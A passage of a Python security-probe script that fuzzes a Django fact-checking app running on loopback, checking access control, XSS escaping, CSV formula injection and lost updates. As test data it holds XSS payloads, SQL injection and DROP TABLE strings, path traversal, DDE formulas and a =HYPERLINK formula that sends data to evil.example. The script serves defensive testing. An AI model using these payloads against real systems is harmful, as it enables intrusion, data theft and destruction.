"""Security probe: hostile input against gunicorn with production settings on loopback (issue #13's re-run).

It starts gunicorn (production settings, 2 workers, as `make serve`; bench/serving.py) on a fresh embedded
database in `.data/probe`, with a small synthetic corpus and logins made by `manage.py createuser` (two
editors, a viewer, an admin, a viewer removed from its group, i.e. no role). `--url` targets a running server
instead; the probe then uses the database the environment names (DATABASE_URL or CLAIMS_DATA_DIR) for its
logins and checks, and leaves everything else as it is. Then, phase by phase:

  access   every page, partial, export and API endpoint as anonymous, no-role and viewer; every POST form as
           anonymous, no-role and viewer (and editor for the admin-only ones), and as an editor without a CSRF
           token or from a foreign origin; other users' jobs, batches, notifications and private views; a made-up
           session cookie, foreign Host headers, methods the endpoints do not take.
  query    every GET parameter of every page, partial, export and API endpoint with odd values: Nd/No digits
           (², ٣), NUL and controls, lone surrogates, Zs spaces, 10,000 characters (gunicorn answers 414 for a
           request line over 4,094 bytes, so 3,000 go too), SQL/HTML/JS payloads, </script>, formula prefixes;
           one parameter at a time, then all at once as the page and as each of its htmx partials.
  forms    the same values in every field of every POST form, as an editor (and an admin for merges).
  uploads  binary, empty, wrong encodings, HTML soup with <script> and =HYPERLINK titles, zip and gzip bombs,
           deep nesting, an entity bomb, a duplicate, 101 files, a 20 MB paste, a 1,000-character file name, bad
           titles, hostile file names in a batch; then `ingest_worker --batch` files the batches and embeds and
           traces every new article (a failed task counts as a 5xx).
  updates  status changes (single and bulk) and corrections with a stale `version` or none, and a race of
           eight concurrent changes sent with one version: what the database holds afterwards.
  brute    wrong passwords past the lockout, then the right one; a login's `next` off the site; odd usernames;
           wrong, malformed and wrongly-schemed API tokens.
  render   every page, partial and export again, now that hostile text is stored everywhere.

Every HTML answer is scanned for a raw render of the run's marker (an inline script, an on* handler, a
javascript: URL); every CSV export for cells a spreadsheet runs as formulas; JSON-LD for unescaped < > &.
Counts: inputs tried, requests, 5xx, raw script renders, formula cells, lost updates, permission leaks (an
answer that let through what a 401/403/404 or a redirect to the login page was due for), plus redirects off
the site, refusals that do not say why, and timeouts. Exits 1 when anything but inputs and requests is found.

Run: `make probe`, or `.venv/bin/python bench/security_probe.py [--json] [--url URL]`.
"""

from __future__ import annotations

import argparse
import csv
import gzip
import io
import json
import os
import random
import re
import secrets
import subprocess
import sys
import threading
import time
import unicodedata
import zipfile
from collections import Counter
from collections.abc import Callable, Iterable, Iterator, Sequence
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

ROOT = Path(__file__).resolve().parent.parent
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

PORT = int(os.environ.get("PROBE_PORT", "8797"))
DATA_DIR = Path(os.environ.get("PROBE_DATA_DIR", str(ROOT / ".data" / "probe")))
CORPUS_CLAIMS = 300
TIMEOUT = 90  # seconds; gunicorn's own is 60, so a stuck worker shows up as a dropped connection, not a hang
MANAGE = [str(ROOT / ".venv" / "bin" / "python"), str(ROOT / "manage.py")]
SERVER_LOG = DATA_DIR / "server.log"  # gunicorn's output: the traceback of every 5xx

# ---------------------------------------------------------------- what counts as a finding

CATEGORIES = {
    "server_errors": "5xx responses",
    "script_renders": "raw script renders",
    "formula_cells": "formula cells in CSV exports",
    "lost_updates": "lost updates",
    "permission_leaks": "permission leaks",
    "jsonld_unescaped": "unescaped < > & in JSON-LD",
    "open_redirects": "redirects off the site",
    "silent_refusals": "refusals that do not say why",
    "transport_errors": "timeouts and dropped connections",
}
TABLE_COLUMNS = [
    ("server_errors", "5xx"),
    ("script_renders", "script"),
    ("formula_cells", "formula"),
    ("lost_updates", "lost"),
    ("permission_leaks", "leaks"),
]

# A cell starting with one of these is a formula to a spreadsheet (after it trims a tab or CR); OWASP's list.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
# URL attributes that run script when their value starts with one of these schemes.
URL_ATTRIBUTES = frozenset({"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background"})
_SCRIPT_SCHEME = re.compile(r"(?:javascript|vbscript|data:text/html)", re.IGNORECASE)
_URL_NOISE = re.compile(r"[\x00-\x20]")  # browsers skip controls and spaces inside a scheme
JSON_SCRIPT_TYPES = frozenset({"application/ld+json", "application/json"})


def payloads(marker: str) -> dict[str, str]:
    """Script payloads carrying the run's marker: each runs in a browser if it comes back unescaped."""
    return {
        "script": f"<script>alert('{marker}')</script>",
        "breakout": f"</script><script>alert('{marker}')</script>",
        "img": f"<img src=x onerror=alert('{marker}')>",
        "svg": f'"><svg onload=alert("{marker}")>',
        "attribute": f"' onmouseover='alert(\"{marker}\")' x='",
        "unquoted": f"x onfocus=alert('{marker}') autofocus",
        "textarea": f"</textarea></title><img src=x onerror=alert('{marker}')>",
        "url": f"javascript:alert('{marker}')",
    }


class _ScriptFinder(HTMLParser):
    """Parses an HTML answer as a browser would and notes what would run: an inline script holding the marker,
    an on* handler holding it, or a javascript: (vbscript:, data:text/html) URL in a link, source or form."""

    def __init__(self, marker: str) -> None:
        super().__init__(convert_charrefs=True)
        self.marker = marker
        self.found: list[str] = []
        self._script: tuple[str, list[str]] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, raw in attrs:
            value = raw or ""
            if name.startswith("on") and self.marker in value:
                self.found.append(f"<{tag} {name}=…{self.marker}…>")
            elif name in URL_ATTRIBUTES and _SCRIPT_SCHEME.match(_URL_NOISE.sub("", value)):
                self.found.append(f"<{tag} {name}={value[:40]!r}>")
            elif tag == "script" and self.marker in value:
                self.found.append(f"<script {name}=…{self.marker}…>")
        if tag == "script":
            self._script = (dict(attrs).get("type") or "", [])

    def handle_data(self, data: str) -> None:
        if self._script is not None:
            self._script[1].append(data)

    def handle_endtag(self, tag: str) -> None:
        if tag == "script" and self._script is not None:
            kind, parts = self._script
            if self.marker in "".join(parts) and kind.lower() not in JSON_SCRIPT_TYPES:
                self.found.append(f"<script>…{self.marker}…</script>")
            self._script = None


def script_renders(html: str, marker: str) -> list[str]:
    """What in `html` would run script a probe payload carried (empty when everything came back escaped)."""
    finder = _ScriptFinder(marker)
    try:
        finder.feed(html)
        finder.close()
    except Exception as exc:  # HTMLParser is lenient; anything it cannot read is worth a look
        finder.found.append(f"unparseable HTML ({exc.__class__.__name__})")
    # Belt and braces: the payloads' own opening, byte for byte (a renderer that skipped escaping).
    for name, payload in payloads(marker).items():
        opening = payload[: payload.index(marker) + len(marker)]
        if name != "url" and opening in html and not any(marker in f for f in finder.found):
            finder.found.append(f"raw {name} payload")
    return list(dict.fromkeys(finder.found))


def formula_cells(text: str) -> list[str]:
    """Cells of a CSV export that a spreadsheet would run as a formula (numbers such as -1.5 are numbers)."""
    cells = []
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(cell):
                cells.append(cell)
    return cells


def jsonld_unescaped(text: str) -> int:
    """How many <, > and & a JSON-LD document carries raw (escaped, they read \\u003C, \\u003E, \\u0026)."""
    return sum(text.count(ch) for ch in "<>&")


class _JsonLdBlocks(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=False)
        self.blocks: list[str] = []
        self._inside = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._inside = tag == "script" and (dict(attrs).get("type") or "").lower() == "application/ld+json"
        if self._inside:
            self.blocks.append("")

    def handle_data(self, data: str) -> None:
        if self._inside:
            self.blocks[-1] += data

    def handle_endtag(self, tag: str) -> None:
        self._inside = False


def jsonld_blocks(html: str) -> list[str]:
    """The contents of the page's <script type="application/ld+json"> blocks."""
    parser = _JsonLdBlocks()
    parser.feed(html)
    return parser.blocks


# ---------------------------------------------------------------- hostile values


def _category_chars(categories: set[str]) -> list[str]:
    return [chr(c) for c in range(0x110000) if unicodedata.category(chr(c)) in categories]


def odd_values(marker: str, seed: int) -> list[str]:
    """Every hostile value the probe puts in a query parameter or form field (deterministic for a seed)."""
    scripts = payloads(marker)
    fixed = [
        "²",  # str.isdigit() says yes, int() says no
        "٣",  # int() says 3
        "１２",  # fullwidth digits
        "Ⅻ½",
        "\x00",
        "a\x00b",
        "\x01\x08\x1b\x7f",
        "\ud800",  # a lone surrogate: not UTF-8 at all
        "x\udfffy",
        "\u00a0\u2003\u3000",  # Zs spaces
        "\u200b\u200e\u202e\ufeff",  # zero-width, direction marks, BOM
        "",
        " ",
        "0",
        "-1",
        "1e3",
        "99999999999999999999999",
        "9223372036854775808",  # bigint + 1
        "2025-02-30",
        "0001-01-01",
        "' OR '1'='1' --",
        "1; DROP TABLE claims_app_claim; --",
        "%_\\",
        "{{ request.user }}{% debug %}",
        "../../../../etc/passwd",
        "//evil.example/",
        '=HYPERLINK("https://evil.example/?d="&A1,"Open")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "A" * 10_000,
        "é" * 3_000 + "\x00",
        *scripts.values(),
        f"<ScRiPt>alert('{marker}')</sCrIpT>",
    ]
    rng = random.Random(seed)
    pools = {
        "digits": _category_chars({"Nd", "No"}),
        "controls": _category_chars({"Cc", "Cs"}),
        "spaces": _category_chars({"Zs", "Zl", "Zp"}),
        "any": _category_chars({"Lo", "Mn", "So", "Sm", "Po"}),
    }
    drawn = ["".join(rng.choice(pool) for _ in range(rng.randint(1, 12))) for pool in pools.values() for _ in range(3)]
    return [*fixed, *drawn]


def core_values(marker: str) -> list[str]:
    """The values that broke things before (#13), sent to each parameter on its own."""
    scripts = payloads(marker)
    return [
        "²",
        "٣",
        "\x00",
        "\ud800",
        "\u3000",
        "-1",
        "99999999999999999999999",
        "2025-02-30",
        "' OR '1'='1' --",
        '=HYPERLINK("https://evil.example/")',
        "A" * 3_000,
        scripts["breakout"],
        scripts["attribute"],
        scripts["url"],
    ]


def encode(value: str) -> str:
    """Percent-encode as UTF-8, lone surrogates included (as raw bytes), so nothing is lost before the server."""
    return quote(value.encode("utf-8", "surrogatepass"), safe="")


def form_body(pairs: Iterable[tuple[str, str]]) -> bytes:
    return "&".join(f"{encode(name)}={encode(value)}" for name, value in pairs).encode("ascii")


# ---------------------------------------------------------------- the tally


@dataclass
class Finding:
    category: str
    phase: str
    where: str
    detail: str


@dataclass
class Tally:
    phase: str = "setup"
    inputs: Counter[str] = field(default_factory=Counter)
    requests: Counter[str] = field(default_factory=Counter)
    findings: list[Finding] = field(default_factory=list)
    # Evidence that the hostile values got through to where they are shown: HTML answers carrying the marker
    # (escaped), and CSV cells that start like a formula behind the quote that makes them inert.
    evidence: Counter[str] = field(default_factory=Counter)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def saw(self, what: str, n: int = 1) -> None:
        with self.lock:
            self.evidence[what] += n

    def tried(self, n: int = 1) -> None:
        with self.lock:
            self.inputs[self.phase] += n

    def sent(self) -> None:
        with self.lock:
            self.requests[self.phase] += 1

    def add(self, category: str, where: str, detail: str = "") -> None:
        with self.lock:
            self.findings.append(Finding(category, self.phase, where, detail[:300]))

    def count(self, category: str, phase: str | None = None) -> int:
        return sum(1 for f in self.findings if f.category == category and (phase is None or f.phase == phase))


# ---------------------------------------------------------------- HTTP


def _short(url: str, limit: int = 160) -> str:
    return url if len(url) <= limit else f"{url[:limit]}… ({len(url):,} chars)"


class Agent:
    """One browser: a cookie jar, the headers the TLS proxy adds, and every answer handed to the probe."""

    def __init__(self, probe: Probe, name: str, username: str = "", password: str = "") -> None:
        import requests

        self.probe, self.name, self.username, self.password = probe, name, username, password
        self.session = requests.Session()
        self.session.headers.update(
            {"X-Forwarded-Proto": "https", "Origin": probe.origin, "User-Agent": "claimdesk-security-probe"}
        )

    @property
    def csrf(self) -> str:
        return self.session.cookies.get("csrftoken") or ""

    def login(self) -> bool:
        self.get("/login/")
        answer = self.post("/login/", [("username", self.username), ("password", self.password), ("next", "/")])
        return answer is not None and answer.status_code == 302 and "login" not in answer.headers.get("Location", "")

    def get(self, path: str, query: str = "", *, headers: dict[str, Any] | None = None, note: str = "") -> Any:
        return self.request("GET", f"{path}?{query}" if query else path, headers=headers, note=note)

    def post(
        self,
        path: str,
        pairs: Sequence[tuple[str, str]] | None = None,
        *,
        files: list[tuple[str, tuple[str, bytes, str]]] | None = None,
        csrf: bool = True,
        headers: dict[str, Any] | None = None,
        note: str = "",
    ) -> Any:
        pairs = list(pairs or [])
        if csrf and self.csrf:
            pairs.append(("csrfmiddlewaretoken", self.csrf))
        if files is not None:
            parts: list[tuple[str, Any]] = [
                (name, (None, value.encode("utf-8", "surrogatepass"))) for name, value in pairs
            ]
            parts.extend(files)
            return self.request("POST", path, files=parts, headers=headers, note=note)
        extra = {"Content-Type": "application/x-www-form-urlencoded", **(headers or {})}
        return self.request("POST", path, data=form_body(pairs), headers=extra, note=note)

    def request(self, method: str, path: str, *, note: str = "", **kwargs: Any) -> Any:
        """Send one request (no redirects followed) and hand the answer to the probe; None when none came."""
        import requests

        url = self.probe.base + path
        where = f"{self.name} {method} {_short(path)}" + (f" [{note}]" if note else "")
        try:
            answer = self.session.request(method, url, allow_redirects=False, timeout=TIMEOUT, **kwargs)
        except requests.RequestException as exc:
            self.probe.tally.sent()
            self.probe.tally.add("transport_errors", where, f"{exc.__class__.__name__}: {exc}")
            return None
        # Production cookies are Secure; TLS ends at the proxy, so here they travel over loopback HTTP.
        for cookie in self.session.cookies:
            cookie.secure = False
        self.probe.observe(answer, where)
        return answer


def refused(answer: Any) -> bool:
    """A 401/403/404/405/429, or a redirect to a login page: what a request without the right is due."""
    if answer is None:
        return True  # no answer let nothing through (the transport error is counted on its own)
    if answer.status_code in (401, 403, 404, 405, 429):
        return True
    return answer.status_code in (301, 302, 303) and "login" in answer.headers.get("Location", "")


# ---------------------------------------------------------------- the desk the probe works on


@dataclass
class Desk:
    """The ids the probe's URLs need, read from the database after setup."""

    claim: int = 0
    other_claim: int = 0
    article: int = 0
    speaker: int = 0
    other_speaker: int = 0
    link: int = 0
    origin: int = 0
    fact_check: int = 0
    notification: int = 0  # the editor's
    others_view: int = 0  # editor2's private saved view
    others_job: str = ""  # editor2's job (public id) and batch
    others_batch: str = ""
    merge: int = 0
    merge_suggestion: int = 0
    targets: list[int] = field(default_factory=list)  # claims the forms phase writes to
    fields: dict[str, Any] = field(default_factory=dict)

    def url(self, template: str) -> str:
        return template.format(**{k: v for k, v in vars(self).items() if not isinstance(v, list | dict)})


class Probe:
    def __init__(self, base: str, marker: str, seed: int) -> None:
        self.base = base.rstrip("/")
        parts = urlsplit(self.base)
        self.origin = f"https://{parts.netloc}"
        self.netloc = parts.netloc
        self.marker = marker
        self.seed = seed
        self.tally = Tally()
        self.desk = Desk()
        self.agents: dict[str, Agent] = {}
        self.passwords: dict[str, str] = {}
        self.usernames: dict[str, str] = {}
        self.tokens: dict[str, str] = {}
        self.started_at = time.time()
        self.run_worker = False  # the probe's own server: it runs the ingest worker too

    # ------------------------------------------------------------ every answer

    def observe(self, answer: Any, where: str) -> None:
        self.tally.sent()
        status = answer.status_code
        if status >= 500:
            self.tally.add("server_errors", where, f"{status}: {answer.text[:160]!r}")
        content_type = answer.headers.get("Content-Type", "")
        if "html" in content_type:
            for render in script_renders(answer.text, self.marker):
                self.tally.add("script_renders", where, render)
            if self.marker in answer.text:
                self.tally.saw("HTML answers showing the marker escaped")
        for header in ("Location", "HX-Redirect", "HX-Location"):
            target = answer.headers.get(header, "")
            if target and self._off_site(target):
                self.tally.add("open_redirects", where, f"{header}: {target[:120]}")

    def _off_site(self, target: str) -> bool:
        parts = urlsplit(target.strip().replace("\\", "/"))
        if parts.scheme and parts.scheme not in ("http", "https"):
            return True
        return bool(parts.netloc) and parts.netloc != self.netloc

    @contextmanager
    def phase(self, name: str) -> Iterator[None]:
        self.tally.phase = name
        started = time.monotonic()
        print(f"  {name} ...", end="", flush=True, file=sys.stderr)
        yield
        print(
            f" {self.tally.requests[name]:,} requests, {time.monotonic() - started:.0f}s", flush=True, file=sys.stderr
        )

    def agent(self, role: str) -> Agent:
        return self.agents[role]

    def expect_refused(self, agent: Agent, answer: Any, why: str) -> None:
        if not refused(answer):
            self.tally.add(
                "permission_leaks",
                f"{agent.name} {answer.request.method} {_short(answer.request.path_url)}",
                f"{answer.status_code} where {why}",
            )

    def expect_reason(self, answer: Any, where: str, words: Sequence[str]) -> None:
        """A refusal must say why: the answer has to carry one of `words` (case-insensitive)."""
        if answer is None:
            return
        text = answer.text.lower()
        if not any(w.lower() in text for w in words):
            self.tally.add("silent_refusals", where, f"{answer.status_code}, none of {list(words)} in the answer")


# ---------------------------------------------------------------- setup


def _production_environment(target_url: str | None) -> dict[str, str]:
    from bench.serving import production_env

    if target_url:
        # A running server: its database from the environment (as `make serve` was given it).
        env = production_env(os.environ.get("CLAIMS_DATA_DIR") or ROOT / ".data")
        return {**env, **{k: os.environ[k] for k in env if k in os.environ}}
    return production_env(DATA_DIR)


def _fresh_database() -> None:
    """Drop and recreate the probe's database, so every run starts from the same state."""
    import psycopg
    from django.db import connection
    from psycopg import sql

    settings = connection.settings_dict
    with psycopg.connect(
        host=settings["HOST"], port=settings["PORT"], user=settings["USER"], dbname="postgres", autocommit=True
    ) as conn:
        name = sql.Identifier(settings["NAME"])
        conn.execute(sql.SQL("DROP DATABASE IF EXISTS {} WITH (FORCE)").format(name))
        conn.execute(sql.SQL("CREATE DATABASE {}").format(name))


def _manage(args: list[str], *, stdin: str = "", settings: str = "config.settings.production") -> str:
    run = subprocess.run(
        [*MANAGE, *args],
        cwd=ROOT,
        input=stdin,
        capture_output=True,
        text=True,
        env={**os.environ, "DJANGO_SETTINGS_MODULE": settings},
        check=False,
    )
    if run.returncode != 0:
        raise SystemExit(f"manage.py {args[0]} failed: {run.stderr.strip()[-500:]}")
    return run.stdout.strip()


ROLES = {
    "editor": "editor",
    "editor2": "editor",
    "viewer": "viewer",
    "admin": "admin",
    "norole": "viewer",  # removed from its group below: a login with no role
    "brute": "editor",  # locked out by the brute phase
}


def create_users(probe: Probe) -> None:
    """Logins made as an operator would (`manage.py createuser`), and API tokens (`create_api_token`)."""
    from django.contrib.auth import get_user_model

    def create(role: str) -> None:
        username, password = probe.usernames[role], probe.passwords[role]
        _manage(["createuser", username, "--role", ROLES[role], "--password-stdin"], stdin=password + "\n")

    for role in ROLES:
        probe.usernames[role] = f"probe-{role}-{probe.marker[-6:]}"
        probe.passwords[role] = secrets.token_urlsafe(18)
    with ThreadPoolExecutor(3) as pool:
        list(pool.map(create, ROLES))
    with ThreadPoolExecutor(3) as pool:
        keys = pool.map(lambda role: _manage(["create_api_token", probe.usernames[role]]), ["viewer", "norole"])
        probe.tokens.update(zip(["viewer", "norole"], keys, strict=True))
    # "Removed from their group": the login stays, the role goes (its API token too keeps authenticating).
    get_user_model().objects.get(username=probe.usernames["norole"]).groups.clear()


def seed_desk(probe: Probe) -> None:
    """What the URLs need, made through the app as its users would: an origin, a published fact-check, a
    mention, a private saved view and a queued batch of another editor, a speaker merge."""
    from claims_app.models import (
        Claim,
        ClaimLink,
        IngestJob,
        Notification,
        SavedView,
        Speaker,
        SpeakerMerge,
        SpeakerMergeSuggestion,
    )

    desk = probe.desk
    editor, editor2, admin = probe.agent("editor"), probe.agent("editor2"), probe.agent("admin")
    claims = list(Claim.objects.filter(speaker__isnull=False).order_by("pk").values_list("pk", "speaker_id"))
    desk.claim, desk.other_claim = claims[0][0], claims[1][0]
    desk.article = Claim.objects.get(pk=desk.claim).article_id
    desk.targets = [pk for pk, _ in claims[2:14]]
    # An origin of two claims.
    editor.post(f"/claims/{desk.claim}/origin/", [("action", "new"), ("medium", "a TV interview")])
    origin_id = Claim.objects.get(pk=desk.claim).statement_origin_id
    if origin_id is None:
        raise SystemExit("setup: the editor could not start an origin")
    desk.origin = origin_id
    editor.post(f"/claims/{desk.other_claim}/origin/", [("action", "join"), ("origin", str(origin_id))])
    # A published fact-check.
    version = str(Claim.objects.get(pk=desk.other_claim).version)
    editor.post(
        f"/claims/{desk.other_claim}/status/",
        [("status", "false"), ("note", "Checked against the council minutes."), ("version", version)],
    )
    editor.post(
        f"/claims/{desk.other_claim}/publish/", [("version", str(Claim.objects.get(pk=desk.other_claim).version))]
    )
    desk.fact_check = desk.other_claim
    # editor2 mentions the editor (a notification of the editor's), saves a private view, queues two files.
    editor2.post(f"/claims/{desk.claim}/comments/", [("text", f"@{probe.usernames['editor']} please look")])
    editor2.post("/claims/views/", [("name", "Mine only"), ("query", "status=false")])
    editor2.post(
        "/articles/new/",
        files=[
            ("file", ("one.txt", b'"The ferry will run," said Ana Berg, the mayor.', "text/plain")),
            ("file", ("two.txt", b'"The bridge is safe," said Tom Hale, the engineer.', "text/plain")),
        ],
    )
    notification = Notification.objects.filter(recipient__username=probe.usernames["editor"]).first()
    view = SavedView.objects.filter(owner__username=probe.usernames["editor2"]).first()
    job = IngestJob.objects.filter(uploaded_by__username=probe.usernames["editor2"]).first()
    if notification is None or view is None or job is None:
        raise SystemExit("setup: the mention, saved view or queued upload did not happen")
    desk.notification, desk.others_view = notification.pk, view.pk
    desk.others_job, desk.others_batch = str(job.public_id), str(job.batch)
    # An admin merges two speakers; a merge suggestion between two others (ingest makes these on near matches).
    desk.speaker, desk.other_speaker = claims[0][1], claims[1][1]
    spare = list(
        Speaker.objects.exclude(pk__in=[desk.speaker, desk.other_speaker])
        .order_by("pk")
        .values_list("pk", flat=True)[:4]
    )
    admin.post(f"/speakers/{spare[0]}/merge/", [("other", str(spare[1]))])
    merge = SpeakerMerge.objects.order_by("-pk").first()
    if merge is None:
        raise SystemExit("setup: the admin's speaker merge did not happen")
    desk.merge = merge.pk
    suggestion, _ = SpeakerMergeSuggestion.objects.get_or_create(speaker_id=spare[2], candidate_id=spare[3], score=0.8)
    desk.merge_suggestion = suggestion.pk
    link = ClaimLink.objects.order_by("pk").first()
    if link is None:
        raise SystemExit("setup: the corpus has no links")
    desk.link = link.pk


# ---------------------------------------------------------------- the catalogue of endpoints

CLAIM_ARTICLE_HTMX = ["results"]


def get_endpoints() -> list[tuple[str, list[str], list[str], str]]:
    """(path template, query parameters, htmx targets, who may read it) for every GET page, partial, export and
    API endpoint. Parameters come from the forms and schemas themselves, so a new filter is probed too."""
    from claims_app.api.schemas import ClaimQuery, SpeakerQuery
    from claims_app.review.claim_page import PANEL_TARGETS
    from claims_app.review.filters import URL_PARAMETERS

    filters = list(URL_PARAMETERS)
    api_filters = list(dict.fromkeys([*ClaimQuery.model_fields, *filters]))
    return [
        ("/", ["page"], [], "reader"),
        ("/claims/", [*filters, "page"], ["results"], "reader"),
        ("/claims/precision/", [], ["panel"], "reader"),
        ("/claims/views/", [], [], "reader"),
        ("/claims/views/nav/", [], ["saved-views-nav"], "reader"),
        ("/claims/export.csv", [*filters], [], "reader"),
        ("/claims/export.json", [*filters], [], "reader"),
        ("/claims/export.jsonld", [*filters], [], "reader"),
        ("/claims/{claim}/", ["link_q", "page"], list(PANEL_TARGETS), "reader"),
        ("/notifications/", ["page"], ["notification-list"], "reader"),
        ("/notifications/count/", [], ["notification-badge"], "reader"),
        ("/origins/{origin}/", ["page"], [], "reader"),
        ("/articles/", ["page"], [], "reader"),
        ("/articles/{article}/", ["page"], ["article-body"], "reader"),
        ("/articles/new/", ["batch"], [], "editor"),
        ("/articles/new/progress/", ["batch"], ["progress"], "editor"),
        ("/speakers/", ["q", "page"], ["speaker-results"], "reader"),
        ("/speakers/{speaker}/", ["page"], [], "reader"),
        ("/speakers/{speaker}/merge/", ["other", "suggestion"], [], "admin"),
        ("/fact-checks/", ["page"], [], "public"),
        ("/fact-checks/feed/", [], [], "public"),
        ("/fact-checks/{fact_check}/", [], [], "public"),
        ("/api/claims/", [*api_filters, "page_size"], [], "api"),
        ("/api/claims/{claim}/", [], [], "api"),
        ("/api/claims/{claim}/suggestions/", ["top"], [], "api"),
        ("/api/origins/{origin}/", [], [], "api"),
        ("/api/articles/", ["page", "page_size"], [], "api"),
        ("/api/speakers/", [*SpeakerQuery.model_fields], [], "api"),
        ("/api/schema/", [], [], "api-docs"),
        ("/api/docs/", [], [], "api-docs"),
    ]


def post_forms(desk: Desk, marker: str) -> list[tuple[str, list[tuple[str, str]], str]]:
    """(path, a well-formed body, who may post it) for every POST form: what a refused user sends, so only the
    permission check stands between them and the change."""
    return [
        (
            "/claims/bulk-status/",
            [("ids", str(desk.claim)), ("status", "verified"), ("version-{claim}", "1")],
            "editor",
        ),
        ("/claims/bulk-assign/", [("ids", str(desk.claim)), ("assignee", "")], "editor"),
        ("/claims/bulk-tag/", [("ids", str(desk.claim)), ("tag", "leak"), ("action", "add")], "editor"),
        ("/claims/{claim}/status/", [("status", "verified"), ("note", "leak"), ("version", "1")], "editor"),
        ("/claims/{claim}/correct/", [("text", "Leaked text"), ("kind", "direct"), ("version", "1")], "editor"),
        ("/claims/{claim}/reject/", [("note", "leak")], "editor"),
        ("/claims/{claim}/assign/", [("assignee", ""), ("note", "leak")], "editor"),
        ("/claims/{claim}/tags/", [("tag", "leak")], "editor"),
        ("/claims/{claim}/tags/remove/", [("tag", "leak")], "editor"),
        ("/claims/{claim}/evidence/", [("url", "https://example.org/leak"), ("note", "leak")], "editor"),
        ("/claims/{claim}/publish/", [], "editor"),
        ("/claims/{other_claim}/unpublish/", [], "editor"),
        ("/claims/{claim}/comments/", [("text", "leak")], "editor"),
        ("/claims/{claim}/links/", [("to_claim", "{other_claim}"), ("relation", "corroborates")], "editor"),
        ("/claims/{claim}/suggestions/accept/", [("candidate", "{other_claim}"), ("relation", "same_claim")], "editor"),
        ("/claims/{claim}/suggestions/dismiss/", [("candidate", "{other_claim}")], "editor"),
        ("/claims/{claim}/origin/", [("action", "remove"), ("note", "leak")], "editor"),
        ("/claims/{claim}/origin/undo/", [], "editor"),
        ("/links/{link}/", [("relation", "contradicts")], "editor"),
        ("/links/{link}/delete/", [], "editor"),
        ("/articles/new/", [("text", '"Leaked," said Ann Leak, the mayor.')], "editor"),
        ("/articles/jobs/{others_job}/retry/", [], "editor"),
        ("/articles/{article}/claims/", [("text", "leak"), ("kind", "direct")], "editor"),
        ("/speakers/{speaker}/merge/", [("other", "{other_speaker}")], "admin"),
        ("/speaker-merges/{merge}/undo/", [], "admin"),
        ("/merge-suggestions/{merge_suggestion}/dismiss/", [], "admin"),
        ("/claims/views/", [("name", f"leak {marker}"), ("query", "")], "reader"),
        ("/claims/views/{others_view}/delete/", [], "owner"),
        ("/notifications/read-all/", [], "reader"),
        ("/notifications/{notification}/read/", [], "owner"),
    ]


# ---------------------------------------------------------------- phases


def _table_counts() -> dict[str, int]:
    """Rows of every table a write lands in: a refused request must leave them all as they were."""
    from django.apps import apps

    models = [m for m in apps.get_app_config("claims_app").get_models()]
    return {m.__name__: m.objects.count() for m in models}


def _fill(desk: Desk, pairs: list[tuple[str, str]]) -> list[tuple[str, str]]:
    return [(desk.url(name), desk.url(value)) for name, value in pairs]


def phase_access(probe: Probe) -> None:
    """No-role reads, anonymous and viewer writes, CSRF-less and cross-origin POSTs, other users' things."""
    desk = probe.desk
    anonymous, norole, viewer = Agent(probe, "anonymous"), probe.agent("norole"), probe.agent("viewer")
    editor, editor2 = probe.agent("editor"), probe.agent("editor2")
    anonymous.get("/login/")  # a CSRF cookie, so its POSTs meet the login check rather than the CSRF one
    for template, _params, targets, who in get_endpoints():
        path = desk.url(template)
        headers_list: list[dict[str, str] | None] = [None, *({"HX-Request": "true", "HX-Target": t} for t in targets)]
        for headers in headers_list[:2]:
            if who == "public":
                probe.tally.tried()
                answer = anonymous.get(path, headers=headers)
                if answer is not None and answer.status_code != 200:
                    probe.tally.add("permission_leaks", f"anonymous GET {path}", f"{answer.status_code}: public page")
                continue
            for agent in (anonymous, norole):
                probe.tally.tried()
                answer = agent.get(path, headers=headers)
                probe.expect_refused(agent, answer, "a login with read access was due")
            if who == "admin":
                for agent in (viewer, editor):
                    probe.tally.tried()
                    probe.expect_refused(agent, agent.get(path, query=f"other={desk.other_speaker}"), "admins only")
            elif who == "editor":
                probe.tally.tried()
                probe.expect_refused(viewer, viewer.get(path, headers=headers), "editors only")
    # API with tokens: a no-role token reads nothing; a viewer's reads.
    for path in ("/api/claims/", f"/api/claims/{desk.claim}/", f"/api/origins/{desk.origin}/"):
        probe.tally.tried()
        answer = norole.request("GET", path, headers={"Authorization": f"Bearer {probe.tokens['norole']}"})
        probe.expect_refused(norole, answer, "the token's user has no role")
        viewer.request("GET", path, headers={"Authorization": f"Bearer {probe.tokens['viewer']}"})
    # Django admin: staff only.
    for agent in (viewer, editor, norole):
        for path in ("/admin/", "/admin/claims_app/claim/", f"/admin/claims_app/claim/{desk.claim}/change/"):
            probe.tally.tried()
            probe.expect_refused(agent, agent.get(path), "Django admin is for staff")
    # A forged session cookie is no login; a foreign Host header is refused (400), never a 500.
    forged = Agent(probe, "forged-session")
    forged.session.cookies.set("sessionid", secrets.token_hex(16))
    for path in ("/claims/", "/claims/export.csv", "/api/claims/"):
        probe.tally.tried()
        probe.expect_refused(forged, forged.get(path), "the session cookie was made up")
    for host in ("evil.example", "127.0.0.1.evil.example", "127.0.0.1:1@evil.example"):
        probe.tally.tried()
        answer = anonymous.get("/login/", headers={"Host": host})
        if answer is not None and answer.status_code < 400:  # a page served for another host: cache poisoning
            probe.tally.add("permission_leaks", f"anonymous GET /login/ Host: {host}", f"{answer.status_code}")
    # Other methods on pages and the read-only API: 405.
    for method, path in [
        ("PUT", f"/claims/{desk.claim}/"),
        ("DELETE", f"/claims/{desk.claim}/"),
